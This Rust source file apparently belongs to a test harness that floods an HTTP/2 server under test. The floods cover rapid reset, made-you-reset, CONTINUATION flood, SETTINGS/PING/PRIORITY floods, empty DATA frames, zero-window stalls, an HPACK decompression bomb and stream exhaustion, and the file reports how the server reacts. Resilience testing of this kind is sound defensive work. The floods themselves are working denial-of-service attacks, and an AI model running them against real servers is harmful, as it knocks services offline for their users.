//! Floods of HTTP/2 frames.

use anyhow::{Result, ensure};

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, PRIORITY, Peer, RESET,
    SETTINGS, Seen, WINDOW_UPDATE, frame, length, literal,
};
use crate::hostile::book::By;
use crate::hostile::scene::{Scene, address};

/// What is said of a flood: how much was taken, and how it ended.
pub(super) fn said(what: &str, taken: usize, of: usize, seen: &Seen) -> String {
    let Seen { answers, resets, goaway, closed, .. } = seen;
    let end = match (goaway, closed) {
        (Some(code), _) => format!("GOAWAY {code}"),
        (None, true) => "closed".to_owned(),
        (None, false) => "still open".to_owned(),
    };
    format!("{taken} of {of} {what} taken, {answers} answers, {resets} resets, {end}")
}

async fn open(scene: &Scene<'_>) -> Result<Peer> {
    Peer::open(&scene.endpoint(By::Peer)?, Some(address(3)), &[]).await
}

/// One flood on one connection.
async fn flood(
    scene: &Scene<'_>,
    what: &str,
    (whole, quick): (usize, usize),
    make: impl FnMut(&mut Peer, usize) -> Vec<u8>,
) -> Result<String> {
    let count = scene.amount(whole, quick);
    let mut peer = open(scene).await?;
    let taken = peer.flood(count, make).await;
    Ok(said(what, taken, count, &peer.seen()))
}

pub(super) async fn rapid_reset(scene: &Scene<'_>) -> Result<String> {
    flood(scene, "reset streams", (20_000, 3_000), |peer, _| {
        let (block, stream) = (peer.head("GET", "/version", &[]), peer.stream());
        let mut bytes = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
        bytes.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
        bytes
    })
    .await
}

pub(super) async fn made_you_reset(scene: &Scene<'_>) -> Result<String> {
    flood(scene, "wrong windows", (20_000, 3_000), |peer, n| {
        let (block, stream) = (peer.head("POST", "/version", &[]), peer.stream());
        let mut bytes = frame(HEADERS, END_HEADERS, stream, &block);
        // By nothing, and beyond what a window may be.
        let by: u32 = if n % 2 == 0 { 0 } else { 0x7fff_ffff };
        bytes.extend(frame(WINDOW_UPDATE, 0, stream, &by.to_be_bytes()));
        bytes
    })
    .await
}

pub(super) async fn continuation(scene: &Scene<'_>) -> Result<String> {
    let count = scene.amount(20_000, 5_000);
    let mut peer = open(scene).await?;
    let (block, stream) = (peer.head("GET", "/version", &[]), peer.stream());
    peer.send(&frame(HEADERS, END_STREAM, stream, &block)).await?;
    let taken = peer
        .flood(count, |_, n| frame(CONTINUATION, 0, stream, &literal(&format!("x-{n}"), &"a".repeat(1000))))
        .await;
    // What is on its way is still to be noticed.
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let seen = peer.seen();
    ensure!(taken < count || seen.goaway.is_some() || seen.closed, "{}", said("frames", taken, count, &seen));
    Ok(said("frames", taken, count, &seen))
}

pub(super) async fn settings(scene: &Scene<'_>) -> Result<String> {
    flood(scene, "SETTINGS", (200_000, 5_000), |_, n| {
        let value = u32::try_from(n % 60_000).unwrap_or_default();
        frame(SETTINGS, 0, 0, &[&INITIAL_WINDOW.to_be_bytes()[..], &value.to_be_bytes()].concat())
    })
    .await
}

pub(super) async fn pings(scene: &Scene<'_>) -> Result<String> {
    let count = scene.amount(200_000, 5_000);
    let mut peer = Peer::deaf(&scene.endpoint(By::Peer)?, Some(address(3)), &[]).await?;
    let taken = peer.flood(count, |_, n| frame(PING, 0, 0, &n.to_be_bytes())).await;
    Ok(format!("{taken} of {count} taken by a server whose answers are not read"))
}

pub(super) async fn priorities(scene: &Scene<'_>) -> Result<String> {
    flood(scene, "PRIORITY", (200_000, 5_000), |_, n| {
        let stream = u32::try_from(n).unwrap_or_default() * 2 + 1;
        frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16])
    })
    .await
}

pub(super) async fn empty_data(scene: &Scene<'_>) -> Result<String> {
    let count = scene.amount(200_000, 5_000);
    let mut peer = open(scene).await?;
    let stream = peer.ask("POST", "/version", &[], 0).await?;
    let taken = peer.flood(count, |_, _| frame(DATA, 0, stream, &[])).await;
    Ok(said("empty frames", taken, count, &peer.seen()))
}

pub(super) async fn window_stall(scene: &Scene<'_>) -> Result<String> {
    let mut peers = vec![];
    for n in 0..scene.amount(100, 10) {
        let mut peer =
            Peer::open(&scene.endpoint(By::Viewer)?, Some(address(n)), &[(INITIAL_WINDOW, 0)]).await?;
        for _ in 0..10 {
            peer.ask("GET", "/openapi/v2", &[], END_STREAM).await?;
        }
        peers.push(peer);
    }
    scene.hold().await;
    let data: usize = peers.iter().map(|p| p.seen().data).sum();
    ensure!(data == 0, "{data} bytes came through a window of none");
    let answers: usize = peers.iter().map(|p| p.seen().answers).sum();
    Ok(format!("{} connections held, {answers} heads of answers", peers.len()))
}

pub(super) async fn hpack_bomb(scene: &Scene<'_>) -> Result<String> {
    let mut peer = open(scene).await?;
    let stream = peer.stream();
    // One header goes to the table, then each byte of the rest names it: index 62 is the newest entry.
    let mut block = peer.head("GET", "/version", &[]);
    block.push(0x40);
    length(&mut block, 7, 0, 1);
    block.push(b'x');
    length(&mut block, 7, 0, 3000);
    block.extend(vec![b'a'; 3000]);
    block.extend(vec![0x80 | 62; 12_000]);
    peer.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).await?;
    let references = scene.amount(2_000, 200);
    let taken = peer
        .flood(references, |peer, _| {
            let stream = peer.stream();
            let mut block = peer.head("GET", "/version", &[]);
            block.extend(vec![0x80 | 62; 12_000]);
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
        })
        .await;
    Ok(said("heads of 36 MB", taken, references, &peer.seen()))
}

pub(super) async fn streams(scene: &Scene<'_>) -> Result<String> {
    let mut peers = vec![];
    let (mut taken, count) = (0, 10_000);
    for n in 0..scene.amount(20, 2) {
        let mut peer = Peer::open(&scene.endpoint(By::Peer)?, Some(address(n)), &[]).await?;
        taken += peer
            .flood(count, |peer, _| {
                let (block, stream) = (peer.head("POST", "/version", &[]), peer.stream());
                frame(HEADERS, END_HEADERS, stream, &block)
            })
            .await;
        peers.push(peer);
    }
    scene.hold().await;
    let refused: usize = peers.iter().map(|p| p.seen().resets).sum();
    Ok(format!("{taken} streams sent on {} connections, {refused} reset", peers.len()))
}
